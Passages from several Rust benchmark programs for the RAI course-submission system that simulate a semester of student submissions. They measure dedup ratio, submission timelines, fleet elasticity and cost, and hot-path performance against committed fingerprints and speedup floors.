    assert_eq!(json, json2, "same-seed semester must be byte-identical");

    rai_bench::header(&format!("store dedup baseline — seed {seed}"));
    let u = &semester.store;
    println!("  semester ({TEAMS} teams x {DAYS} days, {} submissions)", semester.total_submissions);
    println!("    logical resident bytes    {}", u.bytes_stored);
    println!("    physical resident bytes   {}", u.bytes_physical);
    println!("    dedup ratio               {:.2}x", ratio(u.bytes_stored, u.bytes_physical));
    println!("    uploaded (logical) bytes  {}", u.bytes_uploaded);
    println!("    wire bytes                {}", u.bytes_wire);
    println!("    wire savings              {:.2}x", ratio(u.bytes_uploaded, u.bytes_wire));
    println!("    chunks resident           {}", u.chunks);
    println!("    dedup hits                {}", u.chunks_dedup_total);
    println!("    puts / delta puts         {} / {}", u.puts, u.delta_puts);
    let c = &chaos.store;
    println!("  chaos ({} accepted, audit pass)", chaos.accepted.len());
    println!("    dedup ratio               {:.2}x", ratio(c.bytes_stored, c.bytes_physical));
    println!("    wire savings              {:.2}x", ratio(c.bytes_uploaded, c.bytes_wire));
    chunker_throughput();

    // The acceptance floor: dedup must collapse the semester's
    // resident bytes at least 3x.
    let dedup = ratio(u.bytes_stored, u.bytes_physical);
    assert!(
        dedup >= 3.0,
        "dedup ratio {dedup:.2}x below the 3x floor (physical {} vs logical {})",
        u.bytes_physical,
        u.bytes_stored
    );

    std::fs::write("BENCH_store.json", &json).expect("write BENCH_store.json");
    println!("\nwrote BENCH_store.json (dedup {dedup:.2}x >= 3x floor)");
}
