//! Regenerates **Figure 4**: submissions per hour over the last two
//! weeks of the course — "a total of 30,782 submissions", bursty, with
//! the students' circadian rhythm and a strong final-week ramp.
//!
//! The full five-week semester runs as a discrete-event simulation in
//! which every submission exercises the real pipeline.
//!
//! ```text
//! cargo run --release -p rai-bench --bin fig4_timeline
//! ```

use rai_workload::semester::run_semester;
use rai_workload::SemesterConfig;

fn main() {
    let config = SemesterConfig::paper();
    rai_telemetry::log!(
        info,
        "simulating the semester: {} teams / {} students / {} days (seed {})",
        config.teams,
        config.students,
        config.duration_days,
        config.seed
    );
    let result = run_semester(&config);

    rai_bench::header("Figure 4 — submissions per hour, last 2 weeks");
    let counts = result.window_timeline.counts();
    println!("  sparkline ({} hourly buckets):", counts.len());
    println!("  {}", result.window_timeline.sparkline(112));
    // Daily totals make the ramp explicit.
    println!("\n  day-by-day totals:");
    for (day, chunk) in counts.chunks(24).enumerate() {
        let total: u64 = chunk.iter().sum();
        let bar = "#".repeat((total / 60).min(70) as usize);
        println!("  day {:>2}: {:>5}  {bar}", day + 22, total);
    }
    let (peak_idx, peak) = result.window_timeline.peak().expect("non-empty window");
    println!(
        "\n  peak hour: {} submissions at hour {} of the window",
        peak, peak_idx
    );

    rai_bench::header("circadian check (mean by hour of day, window)");
    let mut by_hour = [0u64; 24];
    for (i, &c) in counts.iter().enumerate() {
        by_hour[i % 24] += c;
    }
    for (h, c) in by_hour.iter().enumerate() {
        println!("  {h:02}:00  {:>6}  {}", c, "#".repeat((*c / 40) as usize));
    }

    rai_bench::header("paper vs measured");
    println!(
        "  window submissions   paper: 30,782    measured: {}",
        result.window_submissions
    );
    println!(
        "  total submissions    paper: >40,000   measured: {}",
        result.total_submissions
    );
    println!(
        "  queue wait p50/p90/p99 (s): {:.1} / {:.1} / {:.1}",
        result.queue_wait_secs.0, result.queue_wait_secs.1, result.queue_wait_secs.2
    );
    rai_bench::header("pipeline stage latency (telemetry histograms)");
    let mut stage_hists = result.metrics.histograms_named(rai_telemetry::names::JOB_STAGE_SECONDS);
    stage_hists.sort_by_key(|(key, _)| key.render());
    for (key, hist) in &stage_hists {
        let mean = if hist.total() > 0 { hist.sum() / hist.total() as f64 } else { 0.0 };
        println!("  {:<44} n={:>6}  mean {:>7.3} s", key.render(), hist.total(), mean);
    }
    assert!(!stage_hists.is_empty(), "stage histograms should be populated");

    let pre_dawn: u64 = (4..7).map(|h| by_hour[h]).sum();
    let evening: u64 = (20..23).map(|h| by_hour[h]).sum();
    println!("  pre-dawn (04-06) vs evening (20-22) volume: {pre_dawn} vs {evening}");
    assert!(
        (24_000..39_000).contains(&result.window_submissions),
        "window volume off: {}",
        result.window_submissions
    );
    assert!(evening > pre_dawn * 2, "circadian rhythm should be visible");
}
