//! Ablation for the **elasticity claim** (§IV/§VII): "RAI can cope
//! with submission bursts … students worked in bursts, which required
//! RAI to be elastic to remain reliable and cost-efficient."
//!
//! The same (scaled) semester runs against fixed fleets of 1–25
//! workers and against the paper's phase schedule; queue-wait
//! percentiles and instance-hour cost show the trade-off the staff
//! navigated.
//!
//! ```text
//! cargo run --release -p rai-bench --bin ablation_elasticity
//! ```

use rai_workload::semester::run_semester;
use rai_workload::{FleetPolicy, SemesterConfig};

fn main() {
    // A half-class, three-week semester keeps the sweep fast while
    // preserving the burst shape.
    let base = |seed: u64| {
        let mut c = SemesterConfig::scaled(24, 21, seed);
        c.students = 72;
        c
    };

    rai_bench::header("queue waits and cost vs fleet policy (24 teams, 21 days)");
    println!(
        "  {:<18} {:>12} {:>10} {:>10} {:>10} {:>12}",
        "fleet", "submissions", "p50 (s)", "p90 (s)", "p99 (s)", "cost ($)"
    );
    let mut rows = Vec::new();
    for fixed in [1usize, 2, 5, 10, 25] {
        let mut cfg = base(99);
        cfg.fleet = FleetPolicy::Fixed(fixed);
        let r = run_semester(&cfg);
        println!(
            "  {:<18} {:>12} {:>10.1} {:>10.1} {:>10.1} {:>12.2}",
            format!("fixed-{fixed}"),
            r.total_submissions,
            r.queue_wait_secs.0,
            r.queue_wait_secs.1,
            r.queue_wait_secs.2,
            r.cost_cents as f64 / 100.0
        );
        rows.push((format!("fixed-{fixed}"), r));
    }
    let mut reactive_cfg = base(99);
    reactive_cfg.fleet = FleetPolicy::Reactive { min: 1, max: 25 };
    let reactive = run_semester(&reactive_cfg);
    println!(
        "  {:<18} {:>12} {:>10.1} {:>10.1} {:>10.1} {:>12.2}",
        "reactive-1..25",
        reactive.total_submissions,
        reactive.queue_wait_secs.0,
        reactive.queue_wait_secs.1,
        reactive.queue_wait_secs.2,
        reactive.cost_cents as f64 / 100.0
    );
    let elastic = run_semester(&base(99));
    println!(
        "  {:<18} {:>12} {:>10.1} {:>10.1} {:>10.1} {:>12.2}",
        "paper-schedule",
        elastic.total_submissions,
        elastic.queue_wait_secs.0,
        elastic.queue_wait_secs.1,
        elastic.queue_wait_secs.2,
        elastic.cost_cents as f64 / 100.0
    );

    rai_bench::header("paper vs measured");
    let starved = &rows[0].1;
    println!(
        "  1 worker p99 wait {:.0}s vs paper-schedule p99 {:.0}s — elasticity absorbs the deadline burst",
        starved.queue_wait_secs.2, elastic.queue_wait_secs.2
    );
    assert!(
        starved.queue_wait_secs.2 > elastic.queue_wait_secs.2,
        "a starved fixed fleet must wait longer at p99"
    );
    // Over-provisioning a big fixed fleet from day 0 costs more than the
    // staged schedule for similar tail latency.
    let big_fixed = &rows[4].1;
    println!(
        "  fixed-25 cost ${:.0} vs paper-schedule ${:.0} for comparable waits",
        big_fixed.cost_cents as f64 / 100.0,
        elastic.cost_cents as f64 / 100.0
    );
}
