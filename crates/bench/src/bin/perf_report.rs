//! The **end-to-end perf baseline**: wall-clock and throughput for the
//! pinned semester and chaos workloads, per-subsystem micro-timings,
//! and the speedup the hot-path overhaul buys over the pre-overhaul
//! configuration — written to `BENCH_perf.json`.
//!
//! Write mode (default) runs, per seed:
//!
//! 1. an indexed-query micro scenario: the same query batch against an
//!    indexed and an unindexed collection, asserting identical results
//!    and a >= 2x speedup from the planner;
//! 2. the semester workload twice — once as shipped and once with
//!    `db_hot_indexes: false`, the pre-overhaul full-scan planner
//!    configuration that serves as the recorded reference run —
//!    asserting byte-identical fingerprints (the overhaul is
//!    observationally pure) and a >= 1.3x end-to-end speedup;
//! 3. the chaos acceptance scenario (audit must pass);
//! 4. chunker, LZSS, and broker fan-out micro-timings.
//!
//! Check mode (`--check`, the CI smoke job) re-runs the semester and
//! chaos scenarios, verifies the committed `BENCH_perf.json` schema,
//! asserts the fingerprints still match the committed values exactly,
//! and fails if semester wall-clock regressed more than 25% over the
//! committed baseline. It writes nothing.
//!
//! ```text
//! cargo run --release -p rai-bench --bin perf_report [--check] [seed]
//! ```
//!
//! The JSON schema is documented in EXPERIMENTS.md. Fingerprints are
//! exact gates; wall-clock numbers are machine-dependent and only
//! gated within the 25% drift band.

use rai_archive::chunk::{chunk_bytes, ChunkerParams};
use rai_archive::lzss;
use rai_broker::Broker;
use rai_db::{doc, Collection};
use rai_workload::chaos::{run_chaos, ChaosConfig, ChaosResult};
use rai_workload::semester::{run_semester, SemesterConfig, SemesterResult};
use std::time::Instant;

/// Pinned scale, matching the store baseline (`store_report`).
const TEAMS: usize = 12;
const DAYS: u64 = 21;

/// Allowed semester wall-clock drift over the committed baseline
/// before `--check` fails (same machine class assumed).
const MAX_WALL_DRIFT: f64 = 1.25;

/// Floors asserted in write mode (ISSUE acceptance criteria).
const MIN_E2E_SPEEDUP: f64 = 1.3;
const MIN_MICRO_SPEEDUP: f64 = 2.0;

struct Timed<T> {
    result: T,
    wall: f64,
}

fn timed<T>(f: impl FnOnce() -> T) -> Timed<T> {
    let start = Instant::now();
    let result = f();
    Timed {
        result,
        wall: start.elapsed().as_secs_f64(),
    }
}

// ---------------------------------------------------------------- micro

/// Indexed-query micro scenario: a point-lookup + range batch against
/// two collections holding identical documents, one with secondary
/// indexes and one without. Returns (indexed_wall, scan_wall).
fn indexed_query_micro() -> (f64, f64) {
    const DOCS: usize = 8_000;
    const QUERIES: u64 = 400;

    let build = |indexed: bool| {
        let mut c = Collection::new();
        if indexed {
            c.create_index("job_id");
            c.create_index("kind");
        }
        let docs = (0..DOCS as u64)
            .map(|i| {
                doc! {
                    "job_id" => i,
                    "kind" => format!("kind-{}", i % 8),
                    "runtime_secs" => 0.25 + (i as f64 * 3.77) % 90.0,
                }
            })
            .collect::<Vec<_>>();
        c.insert_many(docs);
        c
    };
    let indexed = build(true);
    let scan = build(false);

    let run_batch = |c: &Collection| {
        let mut touched = 0usize;
        for q in 0..QUERIES {
            let id = (q * 19) % DOCS as u64;
            touched += c.find_one(&doc! { "job_id" => id }).is_some() as usize;
            let lo = (q * 13) % (DOCS as u64 - 64);
            touched += c
                .find(&doc! {
                    "kind" => format!("kind-{}", q % 8),
                    "job_id" => doc! { "$gte" => lo, "$lt" => lo + 64 },
                })
                .len();
        }
        touched
    };

    // Results must agree before the timings mean anything.
    assert_eq!(
        run_batch(&indexed),
        run_batch(&scan),
        "planner and full scan disagree on the micro batch"
    );
    let fast = timed(|| run_batch(&indexed));
    let slow = timed(|| run_batch(&scan));
    assert_eq!(fast.result, slow.result);
    (fast.wall, slow.wall)
}

/// Deterministic pseudorandom buffer for the chunker timing.
fn synthetic_buffer(len: usize) -> Vec<u8> {
    let mut state = 0x5EEDu64;
    (0..len)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect()
}

fn chunker_micro() -> f64 {
    let buf = synthetic_buffer(8 << 20);
    let t = timed(|| chunk_bytes(&buf, ChunkerParams::DEFAULT));
    assert_eq!(t.result.0.total_len, buf.len() as u64);
    (buf.len() as f64 / (1 << 20) as f64) / t.wall
}

fn lzss_micro() -> f64 {
    // Repetitive project-log-like text: the shape the upload path sees.
    let data = b"make && ./ece408 /data/test10.hdf5 /data/model.hdf5 10000\n".repeat(40_000);
    let t = timed(|| lzss::compress(&data));
    assert_eq!(
        lzss::decompress(&t.result).expect("round trip"),
        data,
        "lzss round trip"
    );
    (data.len() as f64 / (1 << 20) as f64) / t.wall
}

fn broker_fanout_micro() -> f64 {
    const CHANNELS: usize = 16;
    const MESSAGES: usize = 10_000;
    let broker = Broker::default();
    let subs: Vec<_> = (0..CHANNELS)
        .map(|i| broker.subscribe("perf", &format!("ch{i}")))
        .collect();
    let body = vec![0x42u8; 256];
    let t = timed(|| {
        for _ in 0..MESSAGES {
            broker.publish("perf", body.clone()).expect("publish");
        }
        let mut delivered = 0usize;
        for s in &subs {
            while let Some(m) = s.try_recv() {
                s.ack(m.id);
                delivered += 1;
            }
        }
        delivered
    });
    assert_eq!(t.result, CHANNELS * MESSAGES, "every copy delivered");
    (CHANNELS * MESSAGES) as f64 / t.wall
}

// ----------------------------------------------------------------- json

struct Report {
    seed: u64,
    semester: Timed<SemesterResult>,
    reference_wall: f64,
    chaos: Timed<ChaosResult>,
    micro_indexed_wall: f64,
    micro_scan_wall: f64,
    chunker_mib_s: f64,
    lzss_mib_s: f64,
    fanout_msgs_s: f64,
}

fn render(r: &Report) -> String {
    let sem = &r.semester.result;
    let chaos = &r.chaos.result;
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-perf-bench/1\",\n");
    out.push_str(&format!("  \"seed\": {},\n", r.seed));
    out.push_str("  \"reference\": {\n");
    out.push_str(
        "    \"description\": \"same semester workload with db_hot_indexes=false (pre-overhaul full-scan planner)\",\n",
    );
    out.push_str(&format!(
        "    \"semester_wall_secs\": {:.4},\n",
        r.reference_wall
    ));
    out.push_str(&format!(
        "    \"speedup_vs_reference\": {:.2}\n",
        r.reference_wall / r.semester.wall
    ));
    out.push_str("  },\n");
    out.push_str("  \"semester\": {\n");
    out.push_str(&format!("    \"teams\": {TEAMS},\n"));
    out.push_str(&format!("    \"days\": {DAYS},\n"));
    out.push_str(&format!(
        "    \"submissions\": {},\n",
        sem.total_submissions
    ));
    out.push_str(&format!("    \"wall_secs\": {:.4},\n", r.semester.wall));
    out.push_str(&format!(
        "    \"throughput_sub_per_sec\": {:.1},\n",
        sem.total_submissions as f64 / r.semester.wall
    ));
    out.push_str(&format!(
        "    \"fingerprint\": \"{:#018x}\"\n",
        sem.fingerprint()
    ));
    out.push_str("  },\n");
    out.push_str("  \"chaos\": {\n");
    out.push_str(&format!("    \"accepted\": {},\n", chaos.accepted.len()));
    out.push_str("    \"audit\": \"pass\",\n");
    out.push_str(&format!("    \"wall_secs\": {:.4},\n", r.chaos.wall));
    out.push_str(&format!(
        "    \"throughput_sub_per_sec\": {:.1},\n",
        chaos.accepted.len() as f64 / r.chaos.wall
    ));
    out.push_str(&format!(
        "    \"fingerprint\": \"{:#018x}\"\n",
        chaos.fingerprint
    ));
    out.push_str("  },\n");
    out.push_str("  \"micro\": {\n");
    out.push_str(&format!(
        "    \"indexed_query_wall_secs\": {:.6},\n",
        r.micro_indexed_wall
    ));
    out.push_str(&format!(
        "    \"full_scan_wall_secs\": {:.6},\n",
        r.micro_scan_wall
    ));
    out.push_str(&format!(
        "    \"indexed_query_speedup\": {:.2},\n",
        r.micro_scan_wall / r.micro_indexed_wall
    ));
    out.push_str(&format!(
        "    \"chunker_mib_per_sec\": {:.0},\n",
        r.chunker_mib_s
    ));
    out.push_str(&format!(
        "    \"lzss_compress_mib_per_sec\": {:.0},\n",
        r.lzss_mib_s
    ));
    out.push_str(&format!(
        "    \"broker_fanout_msgs_per_sec\": {:.0}\n",
        r.fanout_msgs_s
    ));
    out.push_str("  }\n");
    out.push_str("}\n");
    out
}

/// Pull `"key": value` out of the named top-level section of the
/// committed report (the file is our own hand-rendered format, so a
/// positional scan is exact).
fn extract<'a>(json: &'a str, section: &str, key: &str) -> &'a str {
    let sec = json
        .find(&format!("\"{section}\""))
        .unwrap_or_else(|| panic!("BENCH_perf.json: no \"{section}\" section"));
    let rest = &json[sec..];
    let k = rest
        .find(&format!("\"{key}\""))
        .unwrap_or_else(|| panic!("BENCH_perf.json: no \"{key}\" in \"{section}\""));
    let after = &rest[k..];
    let colon = after.find(':').expect("key has a value");
    after[colon + 1..]
        .split([',', '\n', '}'])
        .next()
        .expect("value before delimiter")
        .trim()
        .trim_matches('"')
}

// ----------------------------------------------------------------- main

fn check(seed: u64) {
    let committed =
        std::fs::read_to_string("BENCH_perf.json").expect("read committed BENCH_perf.json");
    let schema = extract(&committed, "schema", "schema");
    assert_eq!(schema, "rai-perf-bench/1", "unexpected schema");
    let committed_sem_fp = extract(&committed, "semester", "fingerprint").to_string();
    let committed_chaos_fp = extract(&committed, "chaos", "fingerprint").to_string();
    let committed_wall: f64 = extract(&committed, "semester", "wall_secs")
        .parse()
        .expect("semester wall_secs is a number");

    // Wall-clock is noisy (cold caches, co-tenant load): take the best
    // of up to three runs, stopping early once one lands in the band.
    // Fingerprints are exact and must match on every run.
    let mut best_wall = f64::INFINITY;
    for _ in 0..3 {
        let semester = timed(|| run_semester(&SemesterConfig::scaled(TEAMS, DAYS, seed)));
        let sem_fp = format!("{:#018x}", semester.result.fingerprint());
        assert_eq!(
            sem_fp, committed_sem_fp,
            "semester fingerprint drifted from the committed baseline"
        );
        best_wall = best_wall.min(semester.wall);
        if best_wall <= committed_wall * MAX_WALL_DRIFT {
            break;
        }
    }
    let chaos = timed(|| run_chaos(&ChaosConfig::acceptance(seed)));
    chaos.result.verify().expect("chaos audit");
    let chaos_fp = format!("{:#018x}", chaos.result.fingerprint);
    assert_eq!(
        chaos_fp, committed_chaos_fp,
        "chaos fingerprint drifted from the committed baseline"
    );
    assert!(
        best_wall <= committed_wall * MAX_WALL_DRIFT,
        "semester wall {best_wall:.3}s (best of 3) regressed more than {:.0}% over committed {committed_wall:.3}s",
        (MAX_WALL_DRIFT - 1.0) * 100.0,
    );
    println!(
        "perf check: fingerprints match ({committed_sem_fp} / {chaos_fp}), wall {best_wall:.3}s within {:.0}% of committed {committed_wall:.3}s",
        (MAX_WALL_DRIFT - 1.0) * 100.0,
    );
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let check_mode = args.iter().any(|a| a == "--check");
    let seed: u64 = args
        .iter()
        .find_map(|a| a.parse().ok())
        .unwrap_or(2016);

    if check_mode {
        check(seed);
        return;
    }

    rai_bench::header(&format!("hot-path perf baseline — seed {seed}"));

    let (micro_indexed_wall, micro_scan_wall) = indexed_query_micro();
    let micro_speedup = micro_scan_wall / micro_indexed_wall;
    println!(
        "  indexed-query micro         {micro_speedup:.1}x (indexed {:.2}ms vs scan {:.2}ms)",
        micro_indexed_wall * 1e3,
        micro_scan_wall * 1e3
    );

    let config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    let semester = timed(|| run_semester(&config));
    let mut legacy_config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    legacy_config.db_hot_indexes = false;
    let reference = timed(|| run_semester(&legacy_config));
    let e2e_speedup = reference.wall / semester.wall;
    println!(
        "  semester ({TEAMS} teams x {DAYS} days, {} submissions)",
        semester.result.total_submissions
    );
    println!(
        "    wall                      {:.3}s ({:.0} sub/s)",
        semester.wall,
        semester.result.total_submissions as f64 / semester.wall
    );
    println!("    reference (no indexes)    {:.3}s", reference.wall);
    println!("    speedup                   {e2e_speedup:.2}x");
    println!(
        "    fingerprint               {:#018x}",
        semester.result.fingerprint()
    );

    let chaos = timed(|| run_chaos(&ChaosConfig::acceptance(seed)));
    chaos.result.verify().expect("chaos audit");
    println!(
        "  chaos ({} accepted, audit pass)",
        chaos.result.accepted.len()
    );
    println!(
        "    wall                      {:.3}s ({:.0} sub/s)",
        chaos.wall,
        chaos.result.accepted.len() as f64 / chaos.wall
    );
    println!(
        "    fingerprint               {:#018x}",
        chaos.result.fingerprint
    );

    let chunker_mib_s = chunker_micro();
    let lzss_mib_s = lzss_micro();
    let fanout_msgs_s = broker_fanout_micro();
    println!("  chunker                     {chunker_mib_s:.0} MiB/s");
    println!("  lzss compress               {lzss_mib_s:.0} MiB/s");
    println!("  broker fan-out (16ch)       {fanout_msgs_s:.0} msg/s");

    // The observational-purity gate: the planner, broker, chunker, and
    // store optimisations must not change a single observable byte.
    assert_eq!(
        semester.result.fingerprint(),
        reference.result.fingerprint(),
        "optimised and reference semester runs diverged — the overhaul is not observationally pure"
    );
    assert!(
        micro_speedup >= MIN_MICRO_SPEEDUP,
        "indexed-query micro speedup {micro_speedup:.2}x below the {MIN_MICRO_SPEEDUP}x floor"
    );
    assert!(
        e2e_speedup >= MIN_E2E_SPEEDUP,
        "end-to-end semester speedup {e2e_speedup:.2}x below the {MIN_E2E_SPEEDUP}x floor"
    );

    let report = Report {
        seed,
        semester,
        reference_wall: reference.wall,
        chaos,
        micro_indexed_wall,
        micro_scan_wall,
        chunker_mib_s,
        lzss_mib_s,
        fanout_msgs_s,
    };
    std::fs::write("BENCH_perf.json", render(&report)).expect("write BENCH_perf.json");
    println!(
        "\nwrote BENCH_perf.json (e2e {e2e_speedup:.2}x >= {MIN_E2E_SPEEDUP}x, micro {micro_speedup:.1}x >= {MIN_MICRO_SPEEDUP}x)"
    );
}
