//! The **end-to-end perf baseline**: wall-clock and throughput for the
//! pinned semester and chaos workloads, per-subsystem micro-timings,
//! and the speedup the hot-path overhaul buys over the pre-overhaul
//! configuration — written to `BENCH_perf.json`.
//!
//! Write mode (default) runs, per seed:
//!
//! 1. an indexed-query micro scenario: the same query batch against an
//!    indexed and an unindexed collection, asserting identical results
//!    and a >= 2x speedup from the planner;
//! 2. the semester workload twice — once as shipped and once with
//!    `db_hot_indexes: false`, the pre-overhaul full-scan planner
//!    configuration that serves as the recorded reference run —
//!    asserting byte-identical fingerprints (the overhaul is
//!    observationally pure) and a >= 1.3x end-to-end speedup;
//! 3. the chaos acceptance scenario (audit must pass);
//! 4. chunker, LZSS, and broker fan-out micro-timings;
//! 5. a scaling sweep over the `rai-exec` pool (parallelism 1/2/4/8):
//!    single-run semester wall at each width (fingerprints must be
//!    byte-identical to the width-1 reference) and a replica fan-out
//!    measure — four independent semester replicas `par_map`'d across
//!    the pool. Since the job-level scheduler (DESIGN.md §15), the
//!    single-run semester itself scales: independent submissions of a
//!    scheduling round execute concurrently between their serial
//!    claim/commit points, so `semester_speedup_at_4` is the headline
//!    intra-run measure and the replica fan-out the embarrassingly
//!    parallel ceiling;
//! 6. the sharded commit-lane measure (DESIGN.md §16): a fault-free
//!    `drive_until` drain of conflict-free jobs (distinct payloads,
//!    distinct teams) at `shards` 1 vs 4, asserting identical outcome
//!    digests and recording `commit_lane_speedup_at_4`. The semester
//!    is also re-run at `shards = 4` and must reproduce the reference
//!    fingerprint exactly;
//! 7. the claim-lane measure (DESIGN.md §17): the same conflict-free
//!    drain with the claim *tail* (auth, spec parse, image resolve,
//!    payload fetch) fanned across `claim_lanes` 1 vs 4, asserting
//!    identical outcome digests and recording `claim_speedup_at_4`.
//!    The semester is also re-run at `claim_lanes = 4` and must
//!    reproduce the reference fingerprint exactly.
//!
//! Check mode (`--check`, the CI smoke job) re-runs the semester and
//! chaos scenarios at the requested pool width (`--parallelism N`,
//! default 1), shard count (`--shards N`, default 1), and claim-lane
//! count (`--claim-lanes N`, default 1), verifies the committed
//! `BENCH_perf.json` schema, asserts the fingerprints still match the
//! committed values exactly (the committed fingerprints were recorded
//! at width 1 / shards 1 / lanes 1, so this *is* the cross-width,
//! cross-shard, cross-lane determinism gate), and fails if semester
//! wall-clock — one warmup run, then the median of three timed runs —
//! regressed more than 25% over the committed baseline. When the
//! requested width and the host both have >= 4 cores it re-measures
//! the single-run semester and the replica fan-out at widths 1 and 4
//! and enforces the >= 1.5x job-level speedup floor on both; when the
//! requested shard count and the host both have >= 4, it re-measures
//! the commit-lane drain at shards 1 and 4 and enforces the >= 1.3x
//! lane floor; when the requested claim-lane count and the host both
//! have >= 4, it re-measures the claim drain at lanes 1 and 4 and
//! enforces the >= 1.3x claim floor. It writes nothing.
//!
//! ```text
//! cargo run --release -p rai-bench --bin perf_report [--check] [--parallelism N] [--shards N] [--claim-lanes N] [seed]
//! ```
//!
//! The JSON schema is documented in EXPERIMENTS.md. Fingerprints are
//! exact gates; wall-clock numbers are machine-dependent and only
//! gated within the 25% drift band.

use rai_archive::chunk::{chunk_bytes, ChunkerParams};
use rai_archive::lzss;
use rai_broker::Broker;
use rai_db::{doc, Collection};
use rai_exec::Executor;
use rai_workload::chaos::{run_chaos, ChaosConfig, ChaosResult};
use rai_workload::semester::{run_semester, SemesterConfig, SemesterResult};
use std::time::Instant;

/// Pinned scale, matching the store baseline (`store_report`).
const TEAMS: usize = 12;
const DAYS: u64 = 21;

/// Allowed semester wall-clock drift over the committed baseline
/// before `--check` fails (same machine class assumed).
const MAX_WALL_DRIFT: f64 = 1.25;

/// Floors asserted in write mode (ISSUE acceptance criteria).
const MIN_E2E_SPEEDUP: f64 = 1.3;
const MIN_MICRO_SPEEDUP: f64 = 2.0;

/// Pool widths swept by the scaling section.
const SCALING_LEVELS: [usize; 4] = [1, 2, 4, 8];
/// Independent semester replicas fanned out per width.
const REPLICAS: usize = 4;
/// Replica scale — small enough that the sweep stays a smoke job.
const REPLICA_TEAMS: usize = 6;
const REPLICA_DAYS: u64 = 10;
/// Replica fan-out speedup floor at width 4 vs 1, enforced whenever
/// the host actually has >= 4 cores to scale onto.
const MIN_FANOUT_SPEEDUP: f64 = 1.5;
/// Single-run semester speedup floor at width 4 vs 1 — the job-level
/// scheduling gate (DESIGN.md §15). Same arming rule as the fan-out
/// floor: a real multi-core gate needs real cores.
const MIN_SEMESTER_SPEEDUP: f64 = 1.5;

/// Commit-lane drain: jobs and fleet shape for the sharded scheduler
/// measure (DESIGN.md §16), and its speedup floor at shards 4 vs 1 —
/// armed under the same >= 4-core rule.
const LANE_JOBS: usize = 48;
const LANE_WORKERS: usize = 8;
const MIN_LANE_SPEEDUP: f64 = 1.3;

/// Claim drain: jobs and fleet shape for the claim-lane measure
/// (DESIGN.md §17), and its speedup floor at claim lanes 4 vs 1 —
/// armed under the same >= 4-core rule.
const CLAIM_JOBS: usize = 48;
const CLAIM_WORKERS: usize = 8;
const MIN_CLAIM_SPEEDUP: f64 = 1.3;

fn host_cpus() -> usize {
    std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
}

struct Timed<T> {
    result: T,
    wall: f64,
}

fn timed<T>(f: impl FnOnce() -> T) -> Timed<T> {
    let start = Instant::now();
    let result = f();
    Timed {
        result,
        wall: start.elapsed().as_secs_f64(),
    }
}

// ---------------------------------------------------------------- micro

/// Indexed-query micro scenario: a point-lookup + range batch against
/// two collections holding identical documents, one with secondary
/// indexes and one without. Returns (indexed_wall, scan_wall).
fn indexed_query_micro() -> (f64, f64) {
    const DOCS: usize = 8_000;
    const QUERIES: u64 = 400;

    let build = |indexed: bool| {
        let mut c = Collection::new();
        if indexed {
            c.create_index("job_id");
            c.create_index("kind");
        }
        let docs = (0..DOCS as u64)
            .map(|i| {
                doc! {
                    "job_id" => i,
                    "kind" => format!("kind-{}", i % 8),
                    "runtime_secs" => 0.25 + (i as f64 * 3.77) % 90.0,
                }
            })
            .collect::<Vec<_>>();
        c.insert_many(docs);
        c
    };
    let indexed = build(true);
    let scan = build(false);

    let run_batch = |c: &Collection| {
        let mut touched = 0usize;
        for q in 0..QUERIES {
            let id = (q * 19) % DOCS as u64;
            touched += c.find_one(&doc! { "job_id" => id }).is_some() as usize;
            let lo = (q * 13) % (DOCS as u64 - 64);
            touched += c
                .find(&doc! {
                    "kind" => format!("kind-{}", q % 8),
                    "job_id" => doc! { "$gte" => lo, "$lt" => lo + 64 },
                })
                .len();
        }
        touched
    };

    // Results must agree before the timings mean anything.
    assert_eq!(
        run_batch(&indexed),
        run_batch(&scan),
        "planner and full scan disagree on the micro batch"
    );
    let fast = timed(|| run_batch(&indexed));
    let slow = timed(|| run_batch(&scan));
    assert_eq!(fast.result, slow.result);
    (fast.wall, slow.wall)
}

/// Deterministic pseudorandom buffer for the chunker timing.
fn synthetic_buffer(len: usize) -> Vec<u8> {
    let mut state = 0x5EEDu64;
    (0..len)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect()
}

fn chunker_micro() -> f64 {
    let buf = synthetic_buffer(8 << 20);
    let t = timed(|| chunk_bytes(&buf, ChunkerParams::DEFAULT));
    assert_eq!(t.result.0.total_len, buf.len() as u64);
    (buf.len() as f64 / (1 << 20) as f64) / t.wall
}

fn lzss_micro() -> f64 {
    // Repetitive project-log-like text: the shape the upload path sees.
    let data = b"make && ./ece408 /data/test10.hdf5 /data/model.hdf5 10000\n".repeat(40_000);
    let t = timed(|| lzss::compress(&data));
    assert_eq!(
        lzss::decompress(&t.result).expect("round trip"),
        data,
        "lzss round trip"
    );
    (data.len() as f64 / (1 << 20) as f64) / t.wall
}

fn broker_fanout_micro() -> f64 {
    const CHANNELS: usize = 16;
    const MESSAGES: usize = 10_000;
    let broker = Broker::default();
    let subs: Vec<_> = (0..CHANNELS)
        .map(|i| broker.subscribe("perf", &format!("ch{i}")))
        .collect();
    let body = vec![0x42u8; 256];
    let t = timed(|| {
        for _ in 0..MESSAGES {
            broker.publish("perf", body.clone()).expect("publish");
        }
        let mut delivered = 0usize;
        for s in &subs {
            while let Some(m) = s.try_recv() {
                s.ack(m.id);
                delivered += 1;
            }
        }
        delivered
    });
    assert_eq!(t.result, CHANNELS * MESSAGES, "every copy delivered");
    (CHANNELS * MESSAGES) as f64 / t.wall
}

// -------------------------------------------------------------- scaling

struct ScalingLevel {
    parallelism: usize,
    semester_wall: f64,
    fanout_wall: f64,
}

/// Fan `REPLICAS` independent semester replicas (distinct seeds, each a
/// pure function of its config) across a `width`-worker pool and return
/// (wall, per-replica fingerprints). The fingerprint vector must be
/// identical at every width — that is asserted by the callers.
fn replica_fanout(width: usize, seed: u64) -> Timed<Vec<u64>> {
    let exec = Executor::new(width);
    timed(|| {
        exec.par_map((0..REPLICAS as u64).collect(), |i: u64| {
            run_semester(&SemesterConfig::scaled(
                REPLICA_TEAMS,
                REPLICA_DAYS,
                seed ^ (i << 8),
            ))
            .fingerprint()
        })
    })
}

/// The write-mode scaling sweep. Asserts single-run semester
